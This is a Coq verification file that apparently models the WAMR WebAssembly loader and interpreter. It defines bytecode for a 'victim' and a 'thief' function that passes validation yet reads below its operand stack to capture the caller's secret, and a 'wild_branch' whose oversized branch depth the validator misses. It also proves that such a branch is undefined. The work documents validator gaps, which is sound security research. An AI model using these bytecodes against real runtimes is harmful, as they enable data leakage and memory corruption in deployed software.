(* ===== verification/ValidatorGaps.v ===== *)
(** * What the validator lets through

    Bodies that [wasm_loader_prepare_bytecode] of
    [core/iwasm/interpreter/wasm_loader.c] accepts and the interpreter of
    [core/iwasm/interpreter/wasm_interp_classic.c] does not confine: the
    validator neither remembers how far a block may pop nor compares the
    branches of an [if], and computes a branch depth in 32 bits. *)

From S2P Require Import Prelude Leb Opcode BlockAddr Instance Machine Interp MachineFacts Validator Calls.
#[local] Open Scope Z_scope.

(** ** Below the operand stack *)

(** A function that puts [secret], given as two bytes of LEB128, on its
    operand stack, calls function 1, and returns what that returned:
    [i32.const secret; call 1; local.set 0; drop; local.get 0; end]. *)
Definition victim (lo hi : Z) : list Z :=
  [0x41; lo; hi; 0x10; 1; 0x21; 0; 0x1a; 0x20; 0; 0x0b].

(** A function without parameters: thirty constants; an [if] whose first
    branch drops them all and whose second does nothing; twenty-nine more
    [drop]s.  The first branch is the one that runs. *)
Definition thief : list Z :=
  (concat (replicate 30 [0x41; 7]) ++ [0x20; 0; 0x45; 0x04; 0x40] ++ replicate 30 0x1a ++
   [0x05; 0x0b] ++ replicate 29 0x1a ++ [0x0b])%list.

Definition accepted (start : Z) (body : list Z) : Prop :=
  exists p, sample_prepare start body = Ok (Some p).

Definition run_victim (lo hi : Z) : option (list Z) :=
  let v := victim lo hi in
  result_of (@wasm_interp_call_wasm (sample_platform true) sample_natives 1000
    (sample_code_module (pr_buf (sample_prepared 1000 v) ++ pr_buf (sample_prepared 1011 thief))
       [sample_function_instance 1000 v; sample_function_instance 1011 thief])
    (sample_env []) sample_world 0 []).


(** ** Beyond the block stack *)

(** [br 0xffffffff; end] *)
Definition wild_branch : list Z := [0x0c; 0xff; 0xff; 0xff; 0xff; 0x0f; 0x0b].

(** The state in which the interpreter enters [body] at address 1000. *)
Definition entered (body : list Z) : St :=
  set_frame_csp [mkBranchBlock BLOCK_TYPE_FUNCTION VALUE_TYPE_I32 (1000 + Z.of_nat (length body) - 1) 6000]
    (sample_state (pr_buf (sample_prepared 1000 body)) []).

(** Popping more blocks than there are is undefined, whatever the number. *)
Lemma POP_CSP_N_beyond n s :
  Z.of_nat (length (frame_csp s)) <= n -> POP_CSP_N n s = None.
Proof.
  intros Hn. unfold POP_CSP_N, mbind, get. rewrite drop_ge by lia. done.
Qed.

Lemma run_1_None `{Platform} `{Natives} s op s1 s2 d s3 :
  FETCH_OPCODE_AND_DISPATCH s = Some (Some op, s1) -> op = WASM_OP_BR ->
  start_instruction s1 = Some (tt, s2) -> read_u32 s2 = Some (d, s3) ->
  Z.of_nat (length (frame_csp s3)) <= d -> run 1 s = None.
Proof.
  intros Hf -> Hst Hr Hd.
  assert (Hb : op_br s2 = None).
  { unfold op_br. rewrite (mbind_eq _ _ _ _ _ Hr). unfold mbind. by rewrite POP_CSP_N_beyond. }
  assert (Hx : exec_op WASM_OP_BR s1 = None).
  { change (exec_op WASM_OP_BR) with (mbind start_instruction (fun _ => op_br)).
    by rewrite (mbind_eq _ _ _ _ _ Hst). }
  assert (Hs : step s = None).
  { unfold step. rewrite (mbind_eq _ _ _ _ _ Hf). unfold mbind. by rewrite Hx. }
  cbn [run]. unfold mbind. by rewrite Hs.
Qed.

